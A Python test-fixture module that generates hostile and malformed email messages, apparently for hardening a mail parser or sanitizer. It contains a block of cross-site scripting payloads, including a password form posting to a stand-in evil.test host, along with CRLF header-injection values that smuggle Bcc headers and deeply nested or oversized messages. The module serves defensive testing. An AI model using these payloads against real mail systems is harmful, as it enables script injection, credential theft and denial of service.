"""A corpus of malformed and hostile messages, generated in code (nothing large is committed)."""

from __future__ import annotations

import base64
import os
from collections.abc import Iterator

BIG_ATTACHMENT_BYTES = 50 * 1024 * 1024
NESTING_LEVELS = 5_000
TINY_PARTS = 10_000

HOSTILE_HTML = """<html><head><base href="http://evil.test/"><meta http-equiv="refresh" content="0;url=http://evil.test/">
<style>body { background: url(javascript:alert(1)) } p { width: expression(alert(2)) }</style>
<script>alert(3)</script><SCRIPT SRC=http://evil.test/x.js></SCRIPT></head>
<body onload="alert(4)"><p style="color: red; width: expression(alert(5))">Hello</p>
<a href="javascript:alert(6)">one</a> <a href=" JaVaScRiPt:alert(7)">two</a>
<a href="java&#x09;script:alert(8)">three</a> <a href="vbscript:msgbox(9)">four</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMCk8L3NjcmlwdD4=">five</a>
<img src="x" onerror="alert(11)"><img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">
<img src=x ONERROR=alert(12)//><div onmouseover='alert(13)'>hover</div>
<svg xmlns="http://www.w3.org/2000/svg"><script>alert(14)</script>
<a xlink:href="javascript:alert(15)">s</a></svg>
<form action="http://evil.test/steal"><input name="password" onfocus="alert(16)"><button>Go</button></form>
<iframe src="http://evil.test/"></iframe><object data="x.swf"></object><embed src="x.swf">
<div style="background-image: url(&quot;javascript:alert(17)&quot;)">bg</div>
<scr<script>ipt>alert(18)</scr</script>ipt><math><mtext><script>alert(19)</script></mtext></math>
<p>end</p></body></html>"""


def _head(n: int, subject: str, content_type: str, extra: str = "") -> bytes:
    return (
        f"From: Hostile {n} <hostile{n}@example.test>\r\nTo: victim@example.test\r\n"
        f"Subject: {subject}\r\nDate: Mon, 01 Jan 2024 10:00:00 +0000\r\n"
        f"Message-ID: <hostile{n}@example.test>\r\nMIME-Version: 1.0\r\n{extra}"
        f"Content-Type: {content_type}\r\n\r\n"
    ).encode()


def broken_boundaries() -> Iterator[bytes]:
    yield _head(1, "boundary never used", 'multipart/mixed; boundary="declared"') + (
        b"--other\r\nContent-Type: text/plain\r\n\r\nlost part\r\n--other--\r\n"
    )
    yield _head(2, "no closing boundary", 'multipart/alternative; boundary="b"') + (
        b"--b\r\nContent-Type: text/plain\r\n\r\nplain\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>cut"
    )
    yield _head(3, "multipart without boundary", "multipart/mixed") + b"just text\r\n"
    yield _head(4, "boundary in a part header", 'multipart/mixed; boundary="x"') + (
        b'--x\r\nContent-Type: multipart/related; boundary="x"\r\n\r\n--x\r\n\r\nloop\r\n--x--\r\n'
    )


def bad_charsets() -> Iterator[bytes]:
    yield _head(5, "unknown charset", "text/plain; charset=x-no-such-charset") + b"caf\xe9 \xff\xfe\r\n"
    yield _head(6, "invalid utf-8", "text/html; charset=utf-8") + b"<p>bad \xc3\x28 \xed\xa0\x80</p>\r\n"
    words = "=?x-bogus?B?SGVsbG8=?= =?utf-8?Q?=FF=FE?="
    yield _head(7, words, "text/plain; charset=utf-7") + b"+AGEAYgBj-\r\n"
    yield _head(8, "charset parameter garbage", 'text/plain; charset="\x01\x02utf-8\\"') + b"text\r\n"


def header_injection() -> Iterator[bytes]:
    crlf = base64.b64encode(b"Hello\r\nBcc: victim@example.test\r\n\r\n<script>alert(20)</script>").decode()
    yield _head(9, f"=?utf-8?B?{crlf}?=", "text/plain") + b"body\r\n"
    yield _head(10, "=?utf-8?Q?Hi=0D=0AX-Injected:_yes=0D=0A?=", "text/plain") + b"body\r\n"
    reply_to = "Reply-To: =?utf-8?Q?a=0D=0ABcc:_x@evil.test?= <r@example.test>\r\n"
    yield _head(11, "plain", "text/plain", reply_to)


def hostile_html() -> Iterator[bytes]:
    yield _head(12, "hostile html", "text/html; charset=utf-8") + HOSTILE_HTML.encode()
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(21)"><script>alert(22)</script></svg>'
    yield _head(13, "svg attachment", 'multipart/mixed; boundary="s"') + (
        b"--s\r\nContent-Type: text/html\r\n\r\n<img src=cid:x onerror=alert(23)>\r\n"
        b'--s\r\nContent-Type: image/svg+xml\r\nContent-Disposition: inline; filename="x.svg"\r\n\r\n'
        + svg
        + b"\r\n--s--\r\n"
    )


def deep_nesting(levels: int = NESTING_LEVELS) -> bytes:
    level = '--n{0}\r\nContent-Type: multipart/mixed; boundary="n{1}"\r\n\r\n'
    opening = b"".join(level.format(i, i + 1).encode() for i in range(levels))
    inner = f"--n{levels}\r\nContent-Type: text/plain\r\n\r\nthe bottom\r\n--n{levels}--\r\n".encode()
    closing = b"".join(f"--n{i}--\r\n".encode() for i in reversed(range(levels)))
    return _head(14, f"{levels} levels deep", 'multipart/mixed; boundary="n0"') + opening + inner + closing


def many_parts(count: int = TINY_PARTS) -> bytes:
    part = b"--p\r\nContent-Type: text/plain\r\n\r\nx\r\n"
    return _head(15, f"{count} tiny parts", 'multipart/mixed; boundary="p"') + part * count + b"--p--\r\n"


def big_attachment(size: int = BIG_ATTACHMENT_BYTES) -> bytes:
    payload = base64.encodebytes(os.urandom(size)).replace(b"\n", b"\r\n")
    return (
        _head(16, "50 MB attachment", 'multipart/mixed; boundary="big"')
        + b"--big\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n"
        + b"--big\r\nContent-Type: application/octet-stream\r\n"
        + b'Content-Disposition: attachment; filename="big.bin"\r\n'
        + b"Content-Transfer-Encoding: base64\r\n\r\n"
        + payload
        + b"--big--\r\n"
    )


def small_corpus() -> list[bytes]:
    """Everything but the 50 MB message (which the memory test appends on its own)."""
    return [
        *broken_boundaries(),
        *bad_charsets(),
        *header_injection(),
        *hostile_html(),
        deep_nesting(),
        many_parts(),
    ]
